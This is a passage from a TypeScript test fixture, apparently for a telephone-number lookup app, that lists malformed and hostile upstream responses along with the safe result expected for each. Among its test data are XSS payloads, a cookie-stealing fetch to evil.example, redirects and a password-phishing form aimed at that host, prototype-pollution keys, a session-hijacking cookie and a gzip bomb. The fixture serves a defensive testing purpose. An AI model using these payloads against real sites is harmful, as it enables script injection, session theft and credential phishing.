import { gzipSync } from 'node:zlib';
import vendorExample from '../../src/features/numbers/vendor-example.json' with { type: 'json' };
import type { RawAnswer } from './fake-live-platform.ts';

/*
 * The hostile answers corpus: what a careless or hostile Live Platform (or anything between it
 * and the server) could answer to a lookup, byte for byte, and what must come of each. The fake
 * Live Platform serves each one for a number of its own (RawAnswer, fake-live-platform.ts); the
 * server's test (server/hostile-answers.test.ts) and the browser's (e2e/live/hostile-answers.spec.ts)
 * both read this table.
 *
 * `status` is what our API answers the browser, by the rule of server/upstream-answer.ts: a 200
 * with a JSON body goes on (as application/json), 4xx/5xx become problem details, anything else
 * (a 200 that is not JSON, another 2xx, 3xx, a status past 599, a broken or oversized body)
 * becomes a 502. `expect` is what staff see: the record, "no such number", an error panel, or
 * (429) the notice that the lookup is retried later.
 */

export type Outcome = 'detail' | 'not-found' | 'error' | 'retrying';

export type HostileAnswer = {
  name: string;
  /** The kind of hostility, to group the answers in reports and e2e runs. */
  group: HostileGroup;
  /** The number it is served for: each answer its own, in Ofcom's drama range (+44 20 7946 07xx/08xx). */
  e164: string;
  /** What Live Platform sends. Built on first use and kept: some bodies are a megabyte. */
  raw(): RawAnswer;
  /** The status our API answers with. */
  status: number;
  /** The Retry-After our API passes on (429 only): a value, or null for none. */
  retryAfter?: string | null;
  expect: Outcome;
  /** Text the page shows for it (e.g. the field the record breaks on), when there is one to check. */
  shows?: string;
  /** Big for the browser to render (over 100 kB, or deeply nested): rendered alone in e2e. */
  heavy: boolean;
};

export type HostileGroup =
  | 'wrong-types'
  | 'nulls-and-missing'
  | 'huge'
  | 'markup'
  | 'nesting-and-keys'
  | 'encoding'
  | 'body-shape'
  | 'content-type'
  | 'framing'
  | 'status'
  | 'retry-after'
  | 'headers'
  | 'compression';

/** The first number of the corpus; answer n is served for this + n. */
const firstNumber = 442079460700;
const maxAnswers = 200;

type NumberRecord = { [key: string]: unknown };

/** The vendor's own example, for `e164`. */
const record = (e164: string): NumberRecord => ({ ...vendorExample, telephoneNumber: e164 });

const json = 'application/json; charset=utf-8';
const jsonHeaders = [['Content-Type', json]] as const;

/** 200 with a JSON body built from the number. */
const ok =
  (build: (e164: string) => unknown, headers: RawAnswer['headers'] = jsonHeaders) =>
  (e164: string): RawAnswer => ({ status: 200, headers, body: JSON.stringify(build(e164)) });

/** 200 with these exact bytes as an application/json body. */
const okText =
  (build: (e164: string) => string | Uint8Array) =>
  (e164: string): RawAnswer => ({ status: 200, headers: jsonHeaders, body: build(e164) });

const problemJson = (status: number, members: NumberRecord) =>
  JSON.stringify({ type: 'about:blank', status, ...members });

const kB = 1024;
const cap = 1024 * kB;
const longText = (bytes: number) => 'x'.repeat(bytes);

/** `value` wrapped in `depth` arrays (or objects): `[[[…]]]`. */
const nested = (depth: number, kind: 'array' | 'object', inner = '0') =>
  kind === 'array'
    ? `${'['.repeat(depth)}${inner}${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}${inner}${'}'.repeat(depth)}`;

/** The record with one raw JSON member appended (for values JSON.stringify cannot make). */
const withRawMember = (e164: string, member: string) =>
  `${JSON.stringify(record(e164)).slice(0, -1)},${member}}`;

const concat = (...parts: (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part)));

// Markup and script where the page shows text: each lands in every field that takes a string.
const markupPayloads = [
  ['<script> element', '<script>alert("hostile-script")</script>'],
  ['javascript: URL', 'javascript:alert("hostile-js-url")'],
  ['<img onerror>', '<img src=x onerror=alert("hostile-img")>'],
  ['attribute break-out with <svg onload>', '"><svg onload=alert("hostile-svg")>'],
  ['<a href="javascript:">', '<a href="javascript:alert(\'hostile-a\')">open</a>'],
  ['<iframe> to another origin', '<iframe src="https://evil.example/frame"></iframe>'],
  [
    'stylesheet and @import from another origin',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css)</style>',
  ],
  ['template injection', '{{constructor.constructor(\'alert("hostile-tpl")\')()}}${alert(1)}'],
  ['data: URL of a page', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['URL of another origin', 'https://evil.example/steal?c=<b>1</b>'],
] as const;

/** Every field of the record holds `text` (lists hold it as their item, an extra key too). */
const everyStringIs = (text: string): NumberRecord => ({
  ...Object.fromEntries(Object.keys(vendorExample).map((key) => [key, text])),
  telephoneNumber: text,
  acquiredCapabilities: [text, 'Office365'],
  availableCapabilities: [text],
  sbcList: [{ sbcName: `${text} [${text}]`, sbcId: text }],
  [text]: text,
});

// Each field of the number object with a value of a type it never has.
const wrongTypes: readonly (readonly [field: string, value: unknown, what: string])[] = [
  ['id', { value: 125796 }, 'an object where a number is'],
  ['telephoneNumber', 442074996300, 'a number where a string is'],
  ['isoCountryCode', ['GB'], 'an array where a string is'],
  ['tenantId', 42, 'a number where a string is'],
  ['callingProfileId', { id: vendorExample.callingProfileId }, 'an object where a string is'],
  ['acquiredCapabilities', { 0: 'Office365' }, 'an object where an array is'],
  ['availableCapabilities', 'Office365, Mobile', 'a string where an array is'],
  ['acquiredNumberStatus', [0], 'an array where a number is'],
  ['assignmentStatus', { status: 'UserAssigned' }, 'an object where a string is'],
  ['sbcList', vendorExample.sbcList[0], 'an object where an array is'],
  ['source', true, 'a boolean where a string is'],
  ['whenCreated', 1713269622816, 'a number where a date string is'],
  ['acquiredOn', { $date: vendorExample.acquiredOn }, 'an object where a date string is'],
  ['uploadTelephoneNumberEntryId', [325390], 'an array where a number is'],
  ['uploadToAccountJobId', true, 'a boolean where a number is'],
  ['tnUploadJobId', 12345, 'a number where a string is'],
  ['locationId', {}, 'an object where a string is'],
  ['civicAddressId', [], 'an array where a string is'],
  ['aslcht', 0, 'a number where a date string is'],
  ['aslsct', false, 'a boolean where a date string is'],
  ['aslvCode', { code: 200 }, 'an object where a code is'],
  ['asticks', [638488327428], 'an array where ticks are'],
];

type Definition = Omit<HostileAnswer, 'e164' | 'raw' | 'heavy'> & {
  raw: (e164: string) => RawAnswer;
  /** Default: the 'huge' group only. */
  heavy?: boolean;
};

const cannotRead = 'error' as const;

const definitions: Definition[] = [
  // --- Wrong types, field by field: the record breaks the schema; the page says where.
  ...wrongTypes.map(([field, value, what]): Definition => ({
    name: `${field}: ${what}`,
    group: 'wrong-types',
    raw: ok((e164) => ({ ...record(e164), [field]: value })),
    status: 200,
    expect: cannotRead,
    shows: `${field}:`,
  })),
  {
    name: 'sbcList item: a string where an object is',
    group: 'wrong-types',
    raw: ok((e164) => ({ ...record(e164), sbcList: ['oc1.example.net [20.0.0.1]'] })),
    status: 200,
    expect: cannotRead,
    shows: 'sbcList.0',
  },
  {
    name: 'sbcName: a number where a string is',
    group: 'wrong-types',
    raw: ok((e164) => ({ ...record(e164), sbcList: [{ sbcName: 8, sbcId: 8 }] })),
    status: 200,
    expect: cannotRead,
    shows: 'sbcList.0.sbcName',
  },
  {
    name: 'sbcId: an object where an id is',
    group: 'wrong-types',
    raw: ok((e164) => ({ ...record(e164), sbcList: [{ sbcName: 'oc1 [1.2.3.4]', sbcId: {} }] })),
    status: 200,
    expect: cannotRead,
    shows: 'sbcList.0.sbcId',
  },
  {
    name: 'capability item: an object where a name is',
    group: 'wrong-types',
    raw: ok((e164) => ({ ...record(e164), acquiredCapabilities: [{ name: 'Office365' }] })),
    status: 200,
    expect: cannotRead,
    shows: 'acquiredCapabilities.0',
  },

  // --- Nulls and missing members.
  {
    name: 'every field null but the number',
    group: 'nulls-and-missing',
    raw: ok((e164) => ({
      ...Object.fromEntries(Object.keys(vendorExample).map((key) => [key, null])),
      telephoneNumber: e164,
    })),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'every field null, the number too',
    group: 'nulls-and-missing',
    raw: ok(() => Object.fromEntries(Object.keys(vendorExample).map((key) => [key, null]))),
    status: 200,
    expect: cannotRead,
    shows: 'telephoneNumber:',
  },
  {
    name: 'lists of nulls and odd scalars',
    group: 'nulls-and-missing',
    raw: ok((e164) => ({
      ...record(e164),
      sbcList: [null, null],
      acquiredCapabilities: [null],
      availableCapabilities: [null, 0, false, ''],
    })),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'only the number, nothing else',
    group: 'nulls-and-missing',
    raw: ok((e164) => ({ telephoneNumber: e164 })),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'telephoneNumber missing',
    group: 'nulls-and-missing',
    raw: ok((e164) => {
      const rest = record(e164);
      delete rest.telephoneNumber;
      return rest;
    }),
    status: 200,
    expect: cannotRead,
    shows: 'telephoneNumber:',
  },
  {
    name: 'an empty object',
    group: 'nulls-and-missing',
    raw: ok(() => ({})),
    status: 200,
    expect: cannotRead,
    shows: 'telephoneNumber:',
  },
  {
    name: 'telephoneNumber empty',
    group: 'nulls-and-missing',
    raw: ok((e164) => ({ ...record(e164), telephoneNumber: '' })),
    status: 200,
    expect: cannotRead,
    shows: 'telephoneNumber:',
  },
  {
    name: 'the record of another number',
    group: 'nulls-and-missing',
    raw: ok((e164) => ({ ...record(e164), telephoneNumber: '+14155550100' })),
    status: 200,
    expect: 'detail',
    shows: 'Live Platform returned this record as “+14155550100”.',
  },

  // --- Huge, but within the 1 MiB cap.
  {
    name: '5,000 SBCs',
    group: 'huge',
    raw: ok((e164) => ({
      ...record(e164),
      sbcList: Array.from({ length: 5000 }, (_, n) => ({
        sbcName: `sbc-${n}.example.net [10.0.${Math.floor(n / 256)}.${n % 256}]`,
        sbcId: n,
      })),
    })),
    status: 200,
    expect: 'detail',
  },
  {
    name: '10,000 acquired and 10,000 available capabilities',
    group: 'huge',
    raw: ok((e164) => ({
      ...record(e164),
      acquiredCapabilities: Array.from({ length: 10_000 }, (_, n) => `Capability${n}`),
      availableCapabilities: Array.from({ length: 10_000 }, (_, n) => `Capability${n + 5000}`),
    })),
    status: 200,
    expect: 'detail',
  },
  {
    name: '200,000 empty SBC objects',
    group: 'huge',
    raw: ok((e164) => ({ ...record(e164), sbcList: Array.from({ length: 200_000 }, () => ({})) })),
    status: 200,
    expect: 'detail',
  },
  {
    name: '10,000 unknown fields',
    group: 'huge',
    raw: ok((e164) => ({
      ...record(e164),
      ...Object.fromEntries(Array.from({ length: 10_000 }, (_, n) => [`extraField${n}`, n])),
    })),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'exactly 1 MiB (the cap)',
    group: 'huge',
    raw: okText((e164) => {
      const start = JSON.stringify(record(e164)).slice(0, -1);
      const member = ',"padding":""}';
      return `${start}${member.slice(0, -2)}${longText(cap - start.length - member.length)}"}`;
    }),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'a 500 kB SBC name',
    group: 'huge',
    raw: ok((e164) => ({
      ...record(e164),
      sbcList: [{ sbcName: `${longText(500 * kB)} [20.0.0.1]`, sbcId: 1 }],
    })),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'a 500 kB tenant id',
    group: 'huge',
    raw: ok((e164) => ({ ...record(e164), tenantId: longText(500 * kB) })),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'a 500 kB telephoneNumber',
    group: 'huge',
    raw: ok((e164) => ({ ...record(e164), telephoneNumber: '4'.repeat(500 * kB) })),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'a 500 kB capability name',
    group: 'huge',
    raw: ok((e164) => ({ ...record(e164), acquiredCapabilities: [longText(500 * kB)] })),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'a 500 kB unknown field',
    group: 'huge',
    raw: ok((e164) => ({ ...record(e164), notes: longText(500 * kB) })),
    status: 200,
    expect: 'detail',
  },

  // --- Markup and script in every string: shown as text, never run, never fetched.
  ...markupPayloads.map(([what, payload]): Definition => ({
    name: `${what} in every string field`,
    group: 'markup',
    raw: ok(() => everyStringIs(payload)),
    status: 200,
    expect: 'detail',
    shows: payload,
  })),

  // --- Deep nesting, duplicate keys, prototype keys.
  {
    name: 'an unknown field nested 10,000 arrays deep',
    group: 'nesting-and-keys',
    heavy: true,
    raw: okText((e164) => withRawMember(e164, `"deep":${nested(10_000, 'array')}`)),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'an unknown field nested 10,000 objects deep',
    group: 'nesting-and-keys',
    heavy: true,
    raw: okText((e164) => withRawMember(e164, `"deep":${nested(10_000, 'object')}`)),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'the whole body nested 10,000 arrays deep',
    group: 'nesting-and-keys',
    heavy: true,
    raw: okText((e164) => nested(10_000, 'array', JSON.stringify(record(e164)))),
    status: 200,
    expect: cannotRead,
  },
  {
    name: 'telephoneNumber twice, the second another number',
    group: 'nesting-and-keys',
    raw: okText((e164) => withRawMember(e164, '"telephoneNumber":"+14155550199"')),
    status: 200,
    expect: 'detail',
    shows: 'Live Platform returned this record as “+14155550199”.',
  },
  {
    name: 'sbcList twice, the second null',
    group: 'nesting-and-keys',
    raw: okText((e164) => withRawMember(e164, '"sbcList":null')),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'a __proto__ member',
    group: 'nesting-and-keys',
    raw: okText((e164) =>
      withRawMember(e164, '"__proto__":{"isAdmin":true,"telephoneNumber":"+14155550100"}'),
    ),
    status: 200,
    expect: 'detail',
    shows: '__proto__',
  },
  {
    name: 'constructor and prototype members',
    group: 'nesting-and-keys',
    raw: okText((e164) =>
      withRawMember(
        e164,
        '"constructor":{"prototype":{"isAdmin":true}},"prototype":{"toString":"x"},"hasOwnProperty":1',
      ),
    ),
    status: 200,
    expect: 'detail',
    shows: 'hasOwnProperty',
  },
  {
    name: 'an SBC with __proto__ and constructor members',
    group: 'nesting-and-keys',
    raw: okText((e164) =>
      JSON.stringify(record(e164)).replace(
        '"sbcId":8',
        '"sbcId":8,"__proto__":{"sbcName":"evil"},"constructor":{"name":"x"}',
      ),
    ),
    status: 200,
    expect: 'detail',
  },

  // --- Encodings.
  {
    name: 'a UTF-8 byte order mark',
    group: 'encoding',
    raw: okText((e164) => `\uFEFF${JSON.stringify(record(e164))}`),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'invalid UTF-8 bytes in a string',
    group: 'encoding',
    raw: okText((e164) => {
      const [start, end] = JSON.stringify(record(e164)).split('"webapi"');
      return concat(
        start ?? '',
        '"web',
        Uint8Array.of(0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80),
        '"',
        end ?? '',
      );
    }),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'Latin-1 bytes declared as charset=iso-8859-1',
    group: 'encoding',
    raw: (e164) => ({
      status: 200,
      headers: [['Content-Type', 'application/json; charset=iso-8859-1']],
      body: Buffer.from(JSON.stringify({ ...record(e164), source: 'Montréal' }), 'latin1'),
    }),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'NUL, lone surrogates, bidi overrides and zero-width characters',
    group: 'encoding',
    raw: okText((e164) =>
      JSON.stringify({
        ...record(e164),
        source: 'web\u0000api',
        tenantId: 'a\u202Eb\u200Bc',
      }).replace('"civicAddressId":null', '"civicAddressId":"\\ud800\\udbff"'),
    ),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'UTF-16 with a byte order mark',
    group: 'encoding',
    raw: (e164) => ({
      status: 200,
      headers: [['Content-Type', 'application/json; charset=utf-16']],
      body: concat(Uint8Array.of(0xff, 0xfe), Buffer.from(JSON.stringify(record(e164)), 'utf16le')),
    }),
    status: 502,
    expect: 'error',
  },

  // --- Bodies that are not a record.
  {
    name: 'truncated in the middle',
    group: 'body-shape',
    raw: okText((e164) => JSON.stringify(record(e164)).slice(0, 300)),
    status: 502,
    expect: 'error',
  },
  {
    name: 'an empty body with 200',
    group: 'body-shape',
    raw: okText(() => ''),
    status: 502,
    expect: 'error',
  },
  {
    name: 'null with 200',
    group: 'body-shape',
    raw: okText(() => 'null'),
    status: 200,
    expect: 'not-found',
  },
  {
    name: 'an array of the record with 200',
    group: 'body-shape',
    raw: ok((e164) => [record(e164)]),
    status: 200,
    expect: cannotRead,
  },
  {
    name: 'a JSON string with 200',
    group: 'body-shape',
    raw: ok(() => '<script>alert("hostile-string")</script>'),
    status: 200,
    expect: cannotRead,
  },
  {
    name: 'a JSON number with 200',
    group: 'body-shape',
    raw: okText(() => '1e999'),
    status: 200,
    expect: cannotRead,
  },
  {
    name: 'the record, then markup after it',
    group: 'body-shape',
    raw: okText((e164) => `${JSON.stringify(record(e164))}<script>alert(1)</script>`),
    status: 502,
    expect: 'error',
  },
  {
    name: 'JSON with comments, NaN and single quotes',
    group: 'body-shape',
    raw: okText((e164) => `{/* c */ 'telephoneNumber': '${e164}', "id": NaN}`),
    status: 502,
    expect: 'error',
  },

  // --- Content types of a 200: only JSON goes on.
  {
    name: 'an HTML page with text/html',
    group: 'content-type',
    raw: () => ({
      status: 200,
      headers: [['Content-Type', 'text/html; charset=utf-8']],
      body: '<!DOCTYPE html><html><body><h1>Maintenance</h1><script>alert("hostile-html")</script></body></html>',
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'the record with text/html',
    group: 'content-type',
    raw: ok(record, [['Content-Type', 'text/html']]),
    status: 502,
    expect: 'error',
  },
  {
    name: 'a script with text/javascript',
    group: 'content-type',
    raw: () => ({
      status: 200,
      headers: [['Content-Type', 'text/javascript']],
      body: 'fetch("https://evil.example/?c="+document.cookie);alert("hostile-js")',
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'the record with application/javascript',
    group: 'content-type',
    raw: ok(record, [['Content-Type', 'application/javascript']]),
    status: 502,
    expect: 'error',
  },
  {
    name: 'an SVG with onload, image/svg+xml',
    group: 'content-type',
    raw: () => ({
      status: 200,
      headers: [['Content-Type', 'image/svg+xml']],
      body: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'hostile-svg\')"/>',
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'the record with application/octet-stream',
    group: 'content-type',
    raw: ok(record, [['Content-Type', 'application/octet-stream']]),
    status: 502,
    expect: 'error',
  },
  {
    name: 'the record with text/plain',
    group: 'content-type',
    raw: ok(record, [['Content-Type', 'text/plain']]),
    status: 502,
    expect: 'error',
  },
  {
    name: 'the record with application/xml',
    group: 'content-type',
    raw: ok(record, [['Content-Type', 'application/xml']]),
    status: 502,
    expect: 'error',
  },
  {
    name: 'the record with no content type',
    group: 'content-type',
    raw: ok(record, []),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'the record with application/problem+json',
    group: 'content-type',
    raw: ok(record, [['Content-Type', 'application/problem+json']]),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'two content types, JSON and HTML',
    group: 'content-type',
    raw: ok(record, [
      ['Content-Type', 'application/json'],
      ['Content-Type', 'text/html'],
    ]),
    status: 502,
    expect: 'error',
  },

  // --- Framing: lengths that lie, chunks, close-delimited bodies.
  {
    name: 'Content-Length larger than the body',
    group: 'framing',
    raw: (e164) => {
      const body = JSON.stringify(record(e164));
      return {
        status: 200,
        headers: [...jsonHeaders, ['Content-Length', String(body.length + 500)]],
        body,
      };
    },
    status: 502,
    expect: 'error',
  },
  {
    name: 'Content-Length smaller than the body',
    group: 'framing',
    raw: (e164) => ({
      status: 200,
      headers: [...jsonHeaders, ['Content-Length', '100']],
      body: JSON.stringify(record(e164)),
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'Content-Length that is not a number',
    group: 'framing',
    raw: (e164) => ({
      status: 200,
      headers: [...jsonHeaders, ['Content-Length', 'lots']],
      body: JSON.stringify(record(e164)),
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'HTTP/1.0, the body ended by closing the connection',
    group: 'framing',
    raw: (e164) => ({
      status: 200,
      httpVersion: '1.0',
      headers: jsonHeaders,
      body: JSON.stringify(record(e164)),
      framing: 'close',
    }),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'chunked, in valid chunks',
    group: 'framing',
    raw: (e164) => {
      const body = JSON.stringify(record(e164));
      const chunks = [body.slice(0, 100), body.slice(100)].map(
        (part) => `${Buffer.byteLength(part).toString(16)}\r\n${part}\r\n`,
      );
      return {
        status: 200,
        headers: [...jsonHeaders, ['Transfer-Encoding', 'chunked']],
        body: `${chunks.join('')}0\r\n\r\n`,
      };
    },
    status: 200,
    expect: 'detail',
  },
  {
    name: 'chunked, with a chunk size that is not hex',
    group: 'framing',
    raw: (e164) => ({
      status: 200,
      headers: [...jsonHeaders, ['Transfer-Encoding', 'chunked']],
      body: `zz\r\n${JSON.stringify(record(e164))}\r\n0\r\n\r\n`,
    }),
    status: 502,
    expect: 'error',
  },

  // --- Statuses.
  {
    name: '204 No Content',
    group: 'status',
    raw: () => ({ status: 204, headers: [] }),
    status: 502,
    expect: 'error',
  },
  {
    name: '206 Partial Content with the record',
    group: 'status',
    raw: (e164) => ({
      status: 206,
      headers: [...jsonHeaders, ['Content-Range', 'bytes 0-99/1000']],
      body: JSON.stringify(record(e164)),
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: '299 with the record',
    group: 'status',
    raw: (e164) => ({ status: 299, headers: jsonHeaders, body: JSON.stringify(record(e164)) }),
    status: 502,
    expect: 'error',
  },
  {
    name: '302 to another host',
    group: 'status',
    raw: () => ({ status: 302, headers: [['Location', 'https://evil.example/steal-the-token']] }),
    status: 502,
    expect: 'error',
  },
  {
    name: '307 to another host, with a body',
    group: 'status',
    raw: () => ({
      status: 307,
      headers: [
        ['Location', '//evil.example/x'],
        ['Content-Type', 'text/html'],
      ],
      body: '<a href="//evil.example/x">moved</a>',
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: '304 Not Modified, never asked for',
    group: 'status',
    raw: () => ({ status: 304, headers: [] }),
    status: 502,
    expect: 'error',
  },
  {
    name: "418 I'm a teapot, problem details",
    group: 'status',
    raw: () => ({
      status: 418,
      headers: [['Content-Type', 'application/problem+json']],
      body: problemJson(418, { title: 'Teapot', detail: '<b>short and stout</b>' }),
    }),
    status: 418,
    expect: 'error',
    shows: '<b>short and stout</b>',
  },
  {
    name: '451 Unavailable For Legal Reasons, HTML',
    group: 'status',
    raw: () => ({
      status: 451,
      headers: [['Content-Type', 'text/html']],
      body: '<html><script>alert("hostile-451")</script></html>',
    }),
    status: 451,
    expect: 'error',
  },
  {
    name: 'status 600',
    group: 'status',
    raw: (e164) => ({
      status: 600,
      reason: 'Beyond',
      headers: jsonHeaders,
      body: JSON.stringify(record(e164)),
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'status 999',
    group: 'status',
    raw: () => ({ status: 999, reason: 'Whatever', headers: [] }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'status 1000',
    group: 'status',
    raw: (e164) => ({ status: 1000, headers: jsonHeaders, body: JSON.stringify(record(e164)) }),
    status: 502,
    expect: 'error',
  },
  {
    name: '101 Switching Protocols',
    group: 'status',
    raw: () => ({ status: 101, headers: [['Upgrade', 'websocket']] }),
    status: 502,
    expect: 'error',
  },
  {
    name: '100 Continue, then the connection closes',
    group: 'status',
    raw: () => ({ status: 100, headers: [], framing: 'close' }),
    status: 502,
    expect: 'error',
  },
  {
    name: '103 Early Hints preloading a script from another host, then the record',
    group: 'status',
    raw: (e164) => ({
      interim: [
        { status: 103, headers: [['Link', '<https://evil.example/x.js>; rel=preload; as=script']] },
      ],
      status: 200,
      headers: jsonHeaders,
      body: JSON.stringify(record(e164)),
    }),
    status: 200,
    expect: 'detail',
  },
  {
    name: '404 with an HTML page',
    group: 'status',
    raw: () => ({
      status: 404,
      headers: [['Content-Type', 'text/html']],
      body: '<html><body><img src=x onerror=alert("hostile-404")>Not found</body></html>',
    }),
    status: 404,
    expect: 'not-found',
  },
  {
    name: '403 with markup in its detail',
    group: 'status',
    raw: () => ({
      status: 403,
      headers: [['Content-Type', 'application/problem+json']],
      body: problemJson(403, {
        title: 'Forbidden',
        detail: '<img src=x onerror=alert("hostile-403")>',
        traceId: '<script>alert(1)</script>',
      }),
    }),
    status: 403,
    expect: 'error',
    shows: '<img src=x onerror=alert("hostile-403")>',
  },
  {
    name: '500 with markup in its title, detail and error ticket',
    group: 'status',
    raw: () => ({
      status: 500,
      headers: [['Content-Type', 'application/problem+json']],
      body: problemJson(500, {
        title: '<h1>Oops</h1>',
        detail: '"><svg onload=alert("hostile-500")>',
        errorTicket: 'javascript:alert(1)',
      }),
    }),
    status: 500,
    expect: 'error',
    shows: '"><svg onload=alert("hostile-500")>',
  },
  {
    name: '503 with an HTML maintenance page',
    group: 'status',
    raw: () => ({
      status: 503,
      headers: [['Content-Type', 'text/html']],
      body: '<html><meta http-equiv="refresh" content="0;url=https://evil.example/"></html>',
    }),
    status: 503,
    expect: 'error',
  },
  {
    name: '401 with an HTML body, to every token',
    group: 'status',
    raw: () => ({
      status: 401,
      headers: [
        ['Content-Type', 'text/html'],
        ['WWW-Authenticate', 'Basic realm="<b>x</b>"'],
      ],
      body: '<html><form action="https://evil.example/login"><input name=password></form></html>',
    }),
    status: 401,
    expect: 'error',
  },
  {
    name: 'markup in the reason phrase of a 200',
    group: 'status',
    raw: (e164) => ({
      status: 200,
      reason: '<script>alert("hostile-reason")</script>',
      headers: jsonHeaders,
      body: JSON.stringify(record(e164)),
    }),
    status: 200,
    expect: 'detail',
  },

  // --- 429 with a Retry-After that must not be obeyed as it is.
  ...(
    [
      ['negative', '-5', null],
      ['absurdly large', '99999999999', '120'],
      ['garbage with markup', 'soon<script>alert(1)</script>', null],
      ['an HTTP date in the past', 'Sun, 06 Nov 1994 08:49:37 GMT', '1'],
    ] as const
  ).map(([what, value, passed]): Definition => ({
    name: `429 with a Retry-After ${what}`,
    group: 'retry-after',
    raw: () => ({
      status: 429,
      headers: [
        ['Content-Type', 'application/problem+json'],
        ['Retry-After', value],
      ],
      body: problemJson(429, { title: 'Too Many Requests' }),
    }),
    status: 429,
    retryAfter: passed,
    expect: 'retrying',
  })),

  // --- Headers of a good answer that must never reach the browser.
  ...(
    [
      [
        'Set-Cookie, one named as our session',
        [
          ['Set-Cookie', 'oc_session=hijacked; Path=/; HttpOnly'],
          ['Set-Cookie', 'upstream_tracker=1; Domain=127.0.0.1; Path=/; Max-Age=31536000'],
        ],
      ],
      [
        'a permissive Content-Security-Policy',
        [['Content-Security-Policy', "default-src * 'unsafe-inline' 'unsafe-eval'; script-src *"]],
      ],
      [
        'Access-Control-Allow-Origin: * with credentials',
        [
          ['Access-Control-Allow-Origin', '*'],
          ['Access-Control-Allow-Credentials', 'true'],
        ],
      ],
      ['Location to another host on a 200', [['Location', 'https://evil.example/']]],
      [
        'Link preloading a script from another host',
        [['Link', '<https://evil.example/x.js>; rel=preload; as=script']],
      ],
      ['Refresh to another host', [['Refresh', '0; url=https://evil.example/']]],
      ['Clear-Site-Data: "*"', [['Clear-Site-Data', '"*"']]],
      [
        'caching for a year',
        [
          ['Cache-Control', 'public, max-age=31536000, immutable'],
          ['Expires', 'Thu, 31 Dec 2099 23:59:59 GMT'],
        ],
      ],
      [
        'Content-Disposition: attachment as HTML',
        [['Content-Disposition', 'attachment; filename="lookup.html"']],
      ],
      [
        'framing, sniffing and HSTS switched off',
        [
          ['X-Frame-Options', 'ALLOWALL'],
          ['X-Content-Type-Options', 'sniff'],
          ['Strict-Transport-Security', 'max-age=0'],
          ['Cross-Origin-Resource-Policy', 'cross-origin'],
        ],
      ],
    ] as const
  ).map(([what, headers]): Definition => ({
    name: what,
    group: 'headers',
    raw: ok(record, [...jsonHeaders, ...headers]),
    status: 200,
    expect: 'detail',
  })),
  {
    name: 'headers over 16 kB',
    group: 'headers',
    raw: ok(record, [
      ...jsonHeaders,
      ...Array.from({ length: 40 }, (_, n) => [`X-Filler-${n}`, longText(kB)] as const),
    ]),
    status: 502,
    expect: 'error',
  },

  // --- Compression, and bodies past the cap.
  {
    name: 'gzip-encoded record',
    group: 'compression',
    raw: (e164) => ({
      status: 200,
      headers: [...jsonHeaders, ['Content-Encoding', 'gzip']],
      body: gzipSync(JSON.stringify(record(e164))),
    }),
    status: 200,
    expect: 'detail',
  },
  {
    name: 'gzip bomb: 50 kB that inflates to 50 MB',
    group: 'compression',
    raw: (e164) => ({
      status: 200,
      headers: [...jsonHeaders, ['Content-Encoding', 'gzip']],
      body: gzipSync(`${JSON.stringify(record(e164)).slice(0, -1)},"pad":"${longText(50 * cap)}"}`),
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'Content-Encoding: gzip on a plain body',
    group: 'compression',
    raw: (e164) => ({
      status: 200,
      headers: [...jsonHeaders, ['Content-Encoding', 'gzip']],
      body: JSON.stringify(record(e164)),
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'Content-Encoding: br on garbage',
    group: 'compression',
    raw: () => ({
      status: 200,
      headers: [...jsonHeaders, ['Content-Encoding', 'br']],
      body: Uint8Array.from({ length: 64 }, (_, n) => (n * 37) % 256),
    }),
    status: 502,
    expect: 'error',
  },
  {
    name: 'one byte over the cap, with its length',
    group: 'compression',
    raw: okText((e164) => withRawMember(e164, `"pad":"${longText(cap)}"`).slice(0, cap + 1)),
    status: 502,
    expect: 'error',
  },
  {
    name: '2 MiB chunked, no length',
    group: 'compression',
    raw: (e164) => {
      const body = withRawMember(e164, `"pad":"${longText(2 * cap)}"`);
      return {
        status: 200,
        headers: [...jsonHeaders, ['Transfer-Encoding', 'chunked']],
        body: `${Buffer.byteLength(body).toString(16)}\r\n${body}\r\n0\r\n\r\n`,
      };
    },
    status: 502,
    expect: 'error',
  },
  {
    name: 'a declared length of 10 GB',
    group: 'compression',
    raw: (e164) => ({
      status: 200,
      headers: [...jsonHeaders, ['Content-Length', String(10 * 1024 * cap)]],
      body: JSON.stringify(record(e164)),
    }),
    status: 502,
    expect: 'error',
  },
];

function build(definition: Definition, index: number): HostileAnswer {
  const e164 = `+${firstNumber + index}`;
  let built: RawAnswer | undefined;
  const raw = () => (built ??= definition.raw(e164));
